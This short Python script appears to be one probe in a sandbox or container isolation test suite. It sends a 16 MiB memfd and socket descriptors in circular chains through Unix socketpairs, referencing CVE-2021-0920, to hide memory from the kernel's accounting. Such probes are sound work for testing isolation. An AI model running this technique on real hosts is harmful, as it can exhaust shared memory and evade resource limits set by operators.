"""Hide memory in descriptors that are on their way through sockets that are on their way through each other.

origin: unix(7), the garbage collector of descriptors in flight (CVE-2021-0920)
stopped by: the memory cgroup; the kernel collects what nobody can reach
control: none: what is left shows in the host's memory and groups
"""

import os
import socket

from attempt import tried

memory = os.memfd_create("attack")
os.write(memory, b"x" * (16 << 20))
here, there = socket.socketpair()
try:
    for _ in range(50):
        a, b = socket.socketpair()
        socket.send_fds(a, [b"x"], [memory, b.fileno(), here.fileno()])
        socket.send_fds(here, [b"x"], [a.fileno(), there.fileno()])
except OSError:
    pass
tried("memory in flight")
